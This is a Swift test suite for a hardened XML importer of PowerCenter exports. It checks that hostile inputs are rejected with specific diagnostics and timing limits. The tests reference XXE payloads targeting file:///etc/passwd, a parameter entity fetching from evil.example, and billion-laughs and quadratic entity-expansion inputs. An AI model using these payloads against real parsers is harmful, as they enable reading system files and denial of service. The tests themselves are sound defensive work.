import IR
import Importers
import Testing

/// Hostile and broken inputs: each must end in an error diagnostic, quickly, without leaking files.
@Suite struct XMLReaderHostileTests {
    typealias Support = XMLReaderTestSupport

    /// Reads hostile fixture `name`, checking it took well under a second.
    private func readFixture(_ name: String, expectedRoot: String? = "POWERMART") -> XMLReadResult {
        let (result, seconds) = Support.timed {
            HardenedXMLReader.read(contentsOf: Support.hostile(name), expectedRoot: expectedRoot)
        }
        #expect(seconds < 1.0, "\(name) took \(seconds) s")
        return result
    }

    @Test(arguments: ["xxe-attribute.xml", "xxe-text.xml"])
    func externalEntityIsRejectedAndNeverRead(fixture: String) {
        let result = readFixture(fixture)
        #expect(Support.errorCodes(result) == ["IMP0007"])
        let diagnostic = result.diagnostics[0]
        #expect(diagnostic.message == "entity declaration 'x' is not allowed in an export")
        #expect(diagnostic.location.line == 3)
        #expect(diagnostic.fix == "remove the DOCTYPE internal subset; PowerCenter exports never declare entities")
        #expect(diagnostic.notes == ["it refers to 'file:///etc/passwd', which is never read"])
        #expect(!Support.allText(result.root).contains { $0.contains("root:") })
        #expect(!result.diagnostics.contains { $0.description.contains("root:") })
    }

    @Test func billionLaughsStopsAtTheFirstEntity() {
        let result = readFixture("billion-laughs.xml")
        #expect(Support.errorCodes(result) == ["IMP0007"])
        #expect(result.diagnostics[0].message == "entity declaration 'lol' is not allowed in an export")
        #expect(result.root == nil)
    }

    @Test func quadraticBlowupIsRejected() {
        // One 100 KB entity referenced 20,000 times: 2 GB of text if it were expanded.
        let entity = String(repeating: "a", count: 100_000)
        let references = String(repeating: "&big;", count: 20_000)
        let text =
            "<?xml version=\"1.0\"?>\n<!DOCTYPE POWERMART [<!ENTITY big \"\(entity)\">]>\n"
            + "<POWERMART A=\"&big;\">\(references)</POWERMART>\n"
        let (result, seconds) = Support.timed { Support.read(text, expectedRoot: "POWERMART") }
        #expect(seconds < 1.0)
        #expect(Support.errorCodes(result) == ["IMP0007"])
        #expect(Support.allText(result.root).allSatisfy { $0.count < 1000 })
    }

    @Test func parameterEntityIsRejected() {
        let text = "<!DOCTYPE POWERMART [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]><POWERMART/>"
        let result = Support.read(text)
        #expect(Support.errorCodes(result) == ["IMP0007"])
        #expect(result.diagnostics[0].message == "entity declaration '%p' is not allowed in an export")
    }

    @Test(arguments: [
        ("external-dtd-http.xml", "http://evil.example/x.dtd"), ("external-dtd-file.xml", "file:///etc/passwd"),
    ])
    func externalDTDIsNotLoadedAndReported(fixture: String, named: String) {
        let result = readFixture(fixture)
        #expect(Support.errorCodes(result) == ["IMP0008"])
        #expect(result.diagnostics[0].message == "the DOCTYPE names the external DTD '\(named)', which is not loaded")
        #expect(result.diagnostics[0].location.line == 2)
        // The document itself is still read: only the DTD is refused.
        #expect(result.root?.name == "POWERMART")
        #expect(result.root?.children.first?[attribute: "NAME"] == "R")
    }

    @Test func powerCenterDoctypeIsAcceptedSilently() {
        let result = Support.read(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE POWERMART SYSTEM \"powrmart.dtd\">\n<POWERMART/>\n",
            expectedRoot: "POWERMART")
        #expect(result.diagnostics.isEmpty)
        #expect(result.root?.name == "POWERMART")
    }

    @Test func truncatedFileKeepsWhatWasBuilt() {
        let result = readFixture("truncated.xml")
        #expect(Support.errorCodes(result) == ["IMP0005"])
        let diagnostic = result.diagnostics[0]
        #expect(diagnostic.location.line == 9)
        #expect(diagnostic.message.hasPrefix("the document ends inside element '"))
        #expect(result.root?.name == "POWERMART")
        let folder = result.root?.children.first?.children.first
        #expect(folder?[attribute: "NAME"] == "F")
        #expect(folder?.children.first?[attribute: "NAME"] == "S1")
        #expect(folder?.children.first?.children.first?[attribute: "NAME"] == "A")
    }

    @Test func wrongRootElementIsAnError() {
        let result = readFixture("wrong-root.xml")
        #expect(Support.errorCodes(result) == ["IMP0006"])
        #expect(result.diagnostics[0].message == "the root element is 'html', expected 'POWERMART'")
        #expect(
            result.diagnostics[0].location
                == SourceLocation(file: Support.hostile("wrong-root.xml"), line: 2, column: 1))
        #expect(result.root?.name == "html")
        #expect(result.root?.children.first?[attribute: "CLASS"] == "x")
    }

    @Test func invalidUTF8ByteIsReportedWhereItIs() {
        let result = readFixture("invalid-utf8.xml")
        #expect(Support.errorCodes(result) == ["IMP0010"])
        let diagnostic = result.diagnostics[0]
        #expect(diagnostic.message == "byte 0xFF is not valid in the declared encoding 'UTF-8'")
        #expect(diagnostic.location.line == 4)
        #expect(diagnostic.location.column == 16)
        #expect(!Support.allText(result.root).contains { $0.contains("\u{FFFD}") })
    }

    @Test func undefinedWindows1252ByteIsReportedWhereItIs() {
        let result = readFixture("invalid-windows-1252.xml")
        #expect(Support.errorCodes(result) == ["IMP0010"])
        let diagnostic = result.diagnostics[0]
        #expect(diagnostic.message == "byte 0x81 is not valid in the declared encoding 'Windows-1252'")
        #expect(diagnostic.location.line == 4)
        #expect(diagnostic.location.column == 33)
    }

    @Test func emptyFileIsAnError() {
        let result = readFixture("empty.xml")
        #expect(Support.errorCodes(result) == ["IMP0002"])
        #expect(result.diagnostics.count == 1)
        #expect(result.diagnostics[0].location.line == 0)
        #expect(result.root == nil)
        #expect(result.byteCount == 0)
    }

    @Test(arguments: ["not-xml.png", "plain-text.txt"])
    func nonXMLFileIsAnError(fixture: String) {
        let result = readFixture(fixture)
        #expect(Support.errorCodes(result) == ["IMP0003"])
        #expect(result.diagnostics[0].location.line == 1)
        #expect(result.root == nil)
    }

    @Test func missingFileIsADiagnosticNotAThrow() {
        let path = Support.hostile("no-such-file.xml")
        let result = HardenedXMLReader.read(contentsOf: path)
        #expect(Support.errorCodes(result) == ["IMP0001"])
        #expect(result.diagnostics[0].message == "cannot read '\(path)': no such file or directory")
        #expect(result.diagnostics[0].location == SourceLocation(file: path, line: 0, column: 0))
        #expect(result.root == nil)
    }

    @Test func directoryIsADiagnosticNotAThrow() {
        let path = Support.packageRoot + "/Tests/Fixtures/xml/hostile"
        let result = HardenedXMLReader.read(contentsOf: path)
        #expect(Support.errorCodes(result) == ["IMP0001"])
        #expect(result.diagnostics[0].message == "cannot read '\(path)': it is a directory")
    }

    @Test func undefinedEntityReferenceIsAnError() {
        let result = readFixture("undefined-entity.xml")
        #expect(Support.errorCodes(result) == ["IMP0009"])
        #expect(result.diagnostics[0].message == "entity reference '&nbsp;' names no defined entity")
        #expect(result.diagnostics[0].location.line == 3)
    }

    @Test func mismatchedEndTagIsMalformed() {
        let result = Support.read("<POWERMART>\n  <A>\n  </B>\n</POWERMART>\n")
        #expect(Support.errorCodes(result) == ["IMP0004"])
        #expect(
            result.diagnostics[0].message.hasPrefix(
                "the document is not well-formed XML: opening and ending tag mismatch"))
        #expect(result.diagnostics[0].location.line == 3)
        #expect(result.root?.children.first?.name == "A")
    }

    @Test func deepNestingIsRefusedQuickly() {
        let text = String(repeating: "<A>", count: 100_000)
        let (result, seconds) = Support.timed { Support.read(text) }
        #expect(seconds < 1.0)
        #expect(Support.errorCodes(result) == ["IMP0014"])
        #expect(result.diagnostics[0].message == "elements are nested more than 256 levels deep")
        var depth = 0
        var node = result.root
        while let current = node {
            depth += 1
            node = current.children.first
        }
        #expect(depth == 256)
    }

    @Test func unsupportedEncodingIsAnError() {
        let result = Support.read("<?xml version=\"1.0\" encoding=\"X-NOPE-9\"?>\n<POWERMART/>\n")
        #expect(Support.errorCodes(result) == ["IMP0011"])
        #expect(result.diagnostics[0].message == "the declared encoding 'X-NOPE-9' is not supported")
        #expect(result.diagnostics[0].location.line == 1)
    }

    @Test func controlCharacterIsMalformed() {
        let result = Support.read("<?xml version=\"1.0\"?>\n<POWERMART>\u{1}</POWERMART>\n")
        #expect(Support.errorCodes(result) == ["IMP0004"])
        #expect(result.diagnostics[0].message == "the document is not well-formed XML: PCDATA invalid Char value 1")
        #expect((result.diagnostics[0].location.line, result.diagnostics[0].location.column) == (2, 12))
    }

    @Test func undefinedWindows1252ByteIsFoundBeyondTheFirstChunk() {
        // 4,000 lines of 100 bytes put the bad byte past the first 256 KiB chunk, on line 4,003.
        var bytes = Array("<?xml version=\"1.0\" encoding=\"Windows-1252\"?>\n<POWERMART>\n".utf8)
        let line = Array(("  <E V=\"" + String(repeating: "x", count: 89) + "\"/>\n").utf8)
        for _ in 0..<4000 { bytes += line }
        bytes += Array("  <E V=\"ab".utf8) + [0x9D] + Array("\"/>\n</POWERMART>\n".utf8)
        let result = HardenedXMLReader.read(bytes: bytes, file: "big.xml")
        #expect(Support.errorCodes(result) == ["IMP0010"])
        #expect(result.diagnostics.first?.message == "byte 0x9D is not valid in the declared encoding 'Windows-1252'")
        #expect(result.diagnostics.first?.location.line == 4003)
        #expect(result.diagnostics.first?.location.column == 11)
    }
}
